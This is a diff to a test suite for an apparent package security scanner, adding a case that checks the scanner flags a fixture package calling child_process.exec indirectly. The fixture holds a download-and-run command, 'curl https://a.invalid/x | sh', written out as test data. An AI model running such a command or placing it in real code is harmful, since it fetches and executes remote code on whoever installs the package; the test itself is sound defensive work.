@@ -119,6 +119,21 @@ describe('a package', () => {
   });
 });
 
+test.each([
+  ['exports', 'exports.run = function (f, s) { f(s); };'],
+  ['this', 'this.run = function (f, s) { f(s); };'],
+  ['export', 'export function run(f, s) { f(s); }'],
+])('a file that says nothing but %s may be handed what it runs', async (_, code) => {
+  const files = {
+    'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+    'index.js': `require('./b').run(require('child_process').exec, 'curl https://a.invalid/x | sh');`,
+    'b.js': code,
+  };
+  const report = await scanPackage({ files });
+  expect(report.findings.map(({ rule }) => rule)).toContain('runs-harmful-command');
+  expect(report).toEqual(await scanPackage({ files }, { without: ['triage'] }));
+});
+
 describe('hostile files cost only themselves', () => {
   const deep = (open: string, close: string): string => `x = ${open.repeat(100_000)}1${close.repeat(100_000)};`;
 
